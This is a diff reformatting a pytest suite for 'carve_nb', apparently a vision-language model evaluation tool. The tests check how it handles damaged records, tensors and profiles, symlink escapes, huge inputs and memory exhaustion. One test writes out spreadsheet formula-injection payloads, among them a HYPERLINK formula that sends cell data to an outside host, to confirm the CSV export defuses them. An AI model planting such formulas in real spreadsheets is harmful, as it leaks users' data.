@@ -27,7 +27,8 @@ def write_set(folder, **change):
     "Three questions about one image"
     folder.mkdir(exist_ok=True)
     Image.linear_gradient('L').resize((60, 50)).convert('RGB').save(folder/'a.png')
-    rows = [dict(id=i, image='a.png', question=f'What digit is on the {i} star?', answer='5', **change) for i in ('red', 'blue', 'green')]
+    rows = [dict(id=i, image='a.png', question=f'What digit is on the {i} star?', answer='5', **change)
+        for i in ('red', 'blue', 'green')]
     (folder/'q.jsonl').write_text(''.join(json.dumps(r) + '\n' for r in rows))
     return folder
 
@@ -54,7 +55,8 @@ def again(made, tmp_path, shell):
 def lines(out): return [{k: v for k, v in r.items() if k != 'seconds'} for r in read_run(out).records]
 
 
-CHANGES = [(b'"score": 0.0', b'"score": 5.0'), (b'"score": 0.0', b'"score": 1.0'), (b'"answer": "', b'"answer": "6'), (b'"at": ', b'"at": 9'), (b'"id": "', b'"id": "yellow'), (b'"sum": "', b'"sum": "x'),
+CHANGES = [(b'"score": 0.0', b'"score": 5.0'), (b'"score": 0.0', b'"score": 1.0'), (b'"answer": "', b'"answer": "6'),
+    (b'"at": ', b'"at": 9'), (b'"id": "', b'"id": "yellow'), (b'"sum": "', b'"sum": "x'),
            (b'{', b''), (b'{', bytes(20)), (b'"', b'\xff')]
 
 
@@ -68,13 +70,16 @@ def test_a_changed_line_is_counted_and_measured_again(again, shell, old, new):
     path.write_bytes(b''.join([*whole[:2], whole[2].replace(old, new, 1), *whole[3:]]))
     kept = path.read_bytes()
     status, shown, _ = shell('report', out)
-    assert status == 0 and '1 damaged line' in shown and 'unfinished' not in shown and lines(out) == [*before[:2], *before[3:]], shown
+    assert (status == 0 and '1 damaged line' in shown and 'unfinished' not in shown
+        and lines(out) == [*before[:2], *before[3:]]), shown
     assert path.read_bytes() == kept
     status, shown, said = command()
     assert status == 0 and '1 damaged line of' in said and 'measured again' in said, said
     assert path.read_bytes().startswith(kept) and lines(out) == before
     status, shown, _ = shell('report', out)
-    assert '1 damaged line' in shown and [l for l in table.splitlines() if l.startswith('carve')] == [l for l in shown.splitlines() if l.startswith('carve')]
+    assert '1 damaged line' in shown
+    assert [l for l in table.splitlines() if l.startswith('carve')] == [l for l in shown.splitlines()
+        if l.startswith('carve')]
 
 
 def test_a_line_must_have_its_sum(again, shell):
@@ -83,12 +88,14 @@ def test_a_line_must_have_its_sum(again, shell):
     before, path = lines(out), out/'records.jsonl'
     rows = [json.loads(l) for l in path.read_text().splitlines()]
     del rows[1]['sum']
-    path.write_text(''.join(json.dumps(r | (dict(answer='nowhere', score=1.) if i == 1 else {})) + '\n' for i, r in enumerate(rows)))
+    path.write_text(''.join(json.dumps(r | (dict(answer='nowhere', score=1.) if i == 1 else {})) + '\n' for i,
+        r in enumerate(rows)))
     assert '1 damaged line' in shell('report', out)[1] and len(lines(out)) == 5
     assert command()[0] == 0 and lines(out) == before
 
 
-@pytest.mark.parametrize('change', [lambda text: text.replace('"n": 3', '"n": 2'), lambda text: text[:40], lambda text: '', lambda text: '[]', lambda text: '{}', lambda text: '\xff'])
+@pytest.mark.parametrize('change', [lambda text: text.replace('"n": 3', '"n": 2'), lambda text: text[:40],
+    lambda text: '', lambda text: '[]', lambda text: '{}', lambda text: '\xff'])
 def test_a_changed_protocol_is_found(again, shell, change):
     "And nothing is written over it, by the same command and by another"
     out, command = again
@@ -96,7 +103,8 @@ def test_a_changed_protocol_is_found(again, shell, change):
     path.write_text(change(path.read_text()))
     kept = {p.name: p.read_bytes() for p in out.iterdir()}
     for status, shown, said in (shell('report', out), command(), command('--retry')):
-        assert (status, shown) == (2, '') and 'protocol.json is damaged, or of an older version' in said and 'ive another folder' in said, said
+        assert ((status, shown) == (2, '') and 'protocol.json is damaged, or of an older version' in said
+            and 'ive another folder' in said), said
     assert {p.name: p.read_bytes() for p in out.iterdir()} == kept
 
 
@@ -105,7 +113,8 @@ def test_strange_protocols(again, shell, protocol):
     "A protocol of another form, with the sum that belongs to it: a sentence"
     out, command = again
     save_with_digest(out/'protocol.json', protocol)
-    for status, _, said in (shell('report', out), command()): assert status == 2 and 'Error:' not in said and ('names no data' in said or 'holds another run' in said), said
+    for status, _, said in (shell('report', out), command()):
+        assert status == 2 and 'Error:' not in said and ('names no data' in said or 'holds another run' in said), said
 
 
 @pytest.mark.case(50)
@@ -126,11 +135,14 @@ def test_formulas_in_a_table_of_results(tmp_path, shell):
     (tmp_path/'D').mkdir()
     Image.new('RGB', (60, 50), 'red').save(tmp_path/'D'/'a.png')
     asked = dict(zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4')))
-    (tmp_path/'D'/'q.jsonl').write_text(''.join(json.dumps(dict(id=i, image='a.png', question=q, answer='-5')) + '\n' for i, q in asked.items()))
+    (tmp_path/'D'/'q.jsonl').write_text(''.join(json.dumps(dict(id=i, image='a.png', question=q, answer='-5')) + '\n'
+        for i, q in asked.items()))
     assert shell('eval', tmp_path/'D', '--methods', 'none', '--out', tmp_path/'R', *SHORT)[0] == 0
     rows = list(csv.DictReader(io.StringIO((tmp_path/'R'/'results.csv').read_text())))
-    assert [r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"] and {r['truth'] for r in rows} == {'-5'}      # numbers stay
-    assert not [v for r in rows for v in r.values() if v[:1] in '=@\t' and v] and rows[0]['question'] == "'" + asked['=1+1']
+    assert ([r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"]
+        and {r['truth'] for r in rows} == {'-5'})      # numbers stay
+    assert not [v for r in rows for v in r.values() if v[:1] in '=@\t' and v]
+    assert rows[0]['question'] == "'" + asked['=1+1']
     assert [l['id'] for l in lines(tmp_path/'R')] == [*asked]
 
 
@@ -142,7 +154,8 @@ def test_a_folder_that_can_only_be_read(again, shell, monkeypatch):
     monkeypatch.setattr(files, 'open', refuse, raising=False)
     monkeypatch.setattr(files.Path, 'unlink', refuse)
     status, shown, said = shell('report', out)
-    assert status == 0 and shown == whole[:whole.index('written to')] and f'{out}/results.csv cannot be written: Read-only file system' in said, (shown, said)
+    assert (status == 0 and shown == whole[:whole.index('written to')]
+        and f'{out}/results.csv cannot be written: Read-only file system' in said), (shown, said)
     with pytest.raises(OSError, match='x.txt'): files.replace_file(out/'x.txt', 'x')
 
 
@@ -152,7 +165,8 @@ def test_a_field_that_is_given_twice(shell, tmp_path):
 
 
 @pytest.mark.case(35)
-@pytest.mark.parametrize('change', [dict(values='AAAA'), dict(values='x'), dict(grid=[3]), dict(grid=None), dict(box=[0, 0, 0, 0]), dict(size='1'), 3, None, {}, 'nan'])
+@pytest.mark.parametrize('change', [dict(values='AAAA'), dict(values='x'), dict(grid=[3]), dict(grid=None),
+    dict(box=[0, 0, 0, 0]), dict(size='1'), 3, None, {}, 'nan'])
 def test_damaged_maps(again, change):
     "`load_maps` of a map that was damaged, in a line with its sum: a CarveError"
     out, _ = again
@@ -177,29 +191,37 @@ def test_damaged_rows(tmp_path):
     from carve_nb.attention.rows import AttentionRows
     from carve_nb.data.scenes import make_scene
     path, scene = tmp_path/'rows.safetensors', make_scene(16)
-    VLM.from_pretrained('carve-tiny').capture(scene.image, 'What digit is on the blue cross?', max_new_tokens=1).save(path)
+    VLM.from_pretrained('carve-tiny').capture(scene.image, 'What digit is on the blue cross?',
+        max_new_tokens=1).save(path)
     whole = AttentionRows.load(path)
     with safe_open(path, 'pt') as f: meta, tensors = f.metadata(), {k: f.get_tensor(k) for k in f.keys()}
     old = {'carve_rows': meta['carve_rows']}
     save_file(tensors, path, metadata=old)
     assert torch.equal(AttentionRows.load(path).attn, whole.attn)
     for name, t in tensors.items():
-        for bad, facts in ((-t, meta), (t.float().masked_fill(torch.arange(t.numel()).reshape(t.shape) == 3, float('nan')).to(t.dtype), old)):
+        for bad, facts in ((-t, meta), (t.float().masked_fill(torch.arange(t.numel()).reshape(t.shape) == 3,
+                float('nan')).to(t.dtype), old)):
             save_file(tensors | {name: bad.contiguous()}, path, metadata=facts)
             with pytest.raises(CarveError, match='is damaged'): AttentionRows.load(path)
-    save_file(tensors, path, metadata=meta | {'carve_rows': meta['carve_rows'].replace('blue', 'gray').replace('"layers": [0', '"layers": [1')})
+    save_file(tensors, path, metadata=meta | {'carve_rows': meta['carve_rows'].replace('blue',
+        'gray').replace('"layers": [0', '"layers": [1')})
     with pytest.raises(CarveError, match='is damaged'): AttentionRows.load(path)
 
 
-@pytest.mark.parametrize('change', [dict(layers=True), dict(layers=[True]), dict(layers=['1']), dict(layers=[-1]), dict(read=None), dict(agreement=dict(noun=[.1])), dict(agreement=3), dict(agreement=dict(last='x')),
-                                    dict(again='sure'), dict(again=None), dict(n='9'), dict(query='verb'), dict(query=None), dict(gain=[1]), dict(gain='x'), dict(pointing=[1]), dict(model=3), dict(rules=3),
-                                    dict(agreement={}), dict(pointing=None), dict(pointing={}), dict(n=0), dict(rules=dict(gain=[1]))])
+@pytest.mark.parametrize('change', [dict(layers=True), dict(layers=[True]), dict(layers=['1']), dict(layers=[-1]),
+    dict(read=None), dict(agreement=dict(noun=[.1])), dict(agreement=3), dict(agreement=dict(last='x')),
+                                    dict(again='sure'), dict(again=None), dict(n='9'), dict(query='verb'),
+                                    dict(query=None), dict(gain=[1]), dict(gain='x'), dict(pointing=[1]), dict(model=3),
+                                    dict(rules=3),
+                                    dict(agreement={}), dict(pointing=None), dict(pointing={}), dict(n=0),
+                                    dict(rules=dict(gain=[1]))])
 def test_damaged_profiles(change, tmp_path, shell, monkeypatch):
     "Whoever asks with a damaged profile is told so in a sentence"
     from carve_nb.core.io import CHECKPOINTS
     from carve_nb.method.profiles import profile_path
     monkeypatch.setenv('CARVE_PROFILES', str(tmp_path))
-    path, kept = profile_path(VLM.from_pretrained('carve-tiny')), json.loads((CHECKPOINTS/'carve-tiny'/'profile.json').read_text())
+    path, kept = (profile_path(VLM.from_pretrained('carve-tiny')),
+        json.loads((CHECKPOINTS/'carve-tiny'/'profile.json').read_text()))
     path.write_text(json.dumps(kept | change))
     Image.new('RGB', (60, 50), 'red').save(tmp_path/'a.png')
     status, _, said = shell('ask', tmp_path/'a.png', 'What is on the red star?', '--model', 'carve-tiny')
@@ -218,24 +240,28 @@ def test_a_image_that_is_a_link_out_of_its_set(linked, shell, tmp_path):
     "As a tar keeps links: refused before a model is loaded or anything is sent; a link inside the set is a file of it"
     (linked/'a.png').rename(linked/'b.png')
     (linked/'a.png').symlink_to(linked/'b.png')
-    asked = lambda out, *more: shell('eval', linked, '--n', 1, '--methods', 'none', '--out', tmp_path/out, *SHORT, *more)
+    asked = lambda out, *more: shell('eval', linked, '--n', 1, '--methods', 'none', '--out', tmp_path/out, *SHORT,
+        *more)
     assert asked('R')[0] == 0
     (linked/'a.png').unlink()
     (linked/'a.png').symlink_to(tmp_path/'secret.png')
     for more in (), ('--answer-by', 'http://127.0.0.1:9/v1#m'):
         status, _, said = asked('S', *more)
-        assert status == 2 and f'{linked}/a.png is a link that leads out of the folder of the set' in said and 'leave this machine' not in said, said
+        assert (status == 2 and f'{linked}/a.png is a link that leads out of the folder of the set' in said
+            and 'leave this machine' not in said), said
 
 
 @pytest.mark.parametrize('named', [False, True])
 def test_questions_that_are_a_link_out_of_their_set(linked, shell, tmp_path, named):
     (linked/'q.jsonl').rename(tmp_path/'q.jsonl')
     (linked/'q.jsonl').symlink_to(tmp_path/'q.jsonl')
-    status, _, said = shell('eval', linked/'q.jsonl' if named else linked, '--methods', 'none', '--out', tmp_path/'R', *SHORT)
+    status, _, said = shell('eval', linked/'q.jsonl' if named else linked, '--methods', 'none', '--out', tmp_path/'R',
+        *SHORT)
     assert status == 2 and 'q.jsonl is a link that leads out of the folder of the set' in said, said
 
 
-@pytest.mark.parametrize('question', ['a' + '\n'*200_000 + 'b', 'a' + ' '*200_000 + 'b', 'A.x' + ' '*200_000 + 'y\nB. z', 'A.' + '\n'*200_000, '(A) x\n'*4000, 'a\n' + ' \n'*100_000])
+@pytest.mark.parametrize('question', ['a' + '\n'*200_000 + 'b', 'a' + ' '*200_000 + 'b',
+    'A.x' + ' '*200_000 + 'y\nB. z', 'A.' + '\n'*200_000, '(A) x\n'*4000, 'a\n' + ' \n'*100_000])
 def test_odd_questions_take_no_time(tmp_path, shell, question):
     "A row of 200 kB: refused in words, as its tokens do not fit; with a pattern that tries all ways this would not end"
     (tmp_path/'D').mkdir()
@@ -246,7 +272,8 @@ def test_odd_questions_take_no_time(tmp_path, shell, question):
 
 
 @pytest.mark.case(44)
-@pytest.mark.parametrize('error', [RuntimeError("[enforce fail at alloc_cpu.cpp:127] err == 0. DefaultCPUAllocator: can't allocate memory: you tried to allocate 1 bytes."), MemoryError(), OSError(errno.ENOMEM, 'Cannot allocate memory'),
+@pytest.mark.parametrize('error',
+    [RuntimeError("[enforce fail at alloc_cpu.cpp:127] err == 0. DefaultCPUAllocator: can't allocate memory: you tried to allocate 1 bytes."), MemoryError(), OSError(errno.ENOMEM, 'Cannot allocate memory'),
                                    torch.OutOfMemoryError('CUDA out of memory.')])
 def test_too_little_memory_for_the_weights(shell, tmp_path, monkeypatch, error):
     "Memory that runs out while weights are read is said as such, with what helps, and not as weights that cannot be loaded"
@@ -255,4 +282,5 @@ def test_too_little_memory_for_the_weights(shell, tmp_path, monkeypatch, error):
     monkeypatch.setattr(loading.AutoModelForImageTextToText, 'from_pretrained', fail)
     Image.new('RGB', (60, 50), 'red').save(tmp_path/'a.png')
     status, shown, said = shell('ask', tmp_path/'a.png', 'What is it?')
-    assert (status, shown) == (1, '') and 'memory ran out' in said and 'bfloat16' in said and 'safetensors' not in said, said
+    assert ((status, shown) == (1, '') and 'memory ran out' in said and 'bfloat16' in said
+        and 'safetensors' not in said), said
